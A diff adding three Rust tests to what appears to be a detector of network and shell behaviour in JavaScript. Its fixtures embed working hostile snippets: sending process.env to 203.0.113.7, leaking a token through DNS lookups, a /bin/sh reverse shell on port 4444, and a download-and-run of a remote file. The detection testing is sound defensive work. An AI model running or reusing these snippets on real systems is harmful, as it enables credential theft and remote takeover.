@@ -323,3 +323,43 @@ fn hostile_shapes_end_in_a_gap_not_in_a_fall() {
         assert!(lines.len() < 1 << 20);
     }
 }
+
+#[test]
+fn a_callback_may_use_what_its_call_returns() {
+    let lines = js(r#"
+        const net = require("net");
+        const c = net.connect(4100, "203.0.113.7", () => { c.write(JSON.stringify(process.env)); });
+    "#);
+    has(&lines, &["0 connect Both tcp://203.0.113.7:4100 <- 1"]);
+}
+
+#[test]
+fn a_default_does_not_hide_what_it_stands_in_for() {
+    let lines = js(r#"
+        const dns = require("dns");
+        const v = Buffer.from(process.env.TOKEN || "").toString("hex");
+        for (const part of v.match(/.{1,60}/g)) dns.resolve(part + ".t.example");
+    "#);
+    assert!(lines.contains("connect Lookup dns://….t.example <- 0"), "{lines}");
+}
+
+#[test]
+fn a_shell_joined_to_a_socket_and_a_file_written_and_started() {
+    let lines = js(r#"
+        const cp = require("child_process"), net = require("net"), fs = require("fs"), https = require("https");
+        const sh = cp.spawn("/bin/sh", []);
+        const c = new net.Socket();
+        c.connect(4444, "203.0.113.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
+        const file = fs.createWriteStream("/tmp/tool");
+        https.get("https://f.example/tool", (r) => { r.pipe(file); file.on("finish", () => cp.execSync("sh /tmp/tool")); });
+    "#);
+    has(&lines, &["1 connect Both tcp://203.0.113.7:4444 <- 0"]);
+    assert!(
+        lines.lines().any(|l| l.contains("/bin/sh") && l.contains("<- 1")),
+        "{lines}"
+    );
+    assert!(
+        lines.lines().any(|l| l.contains("shell sh -c sh /tmp/tool <- 3")),
+        "{lines}"
+    );
+}
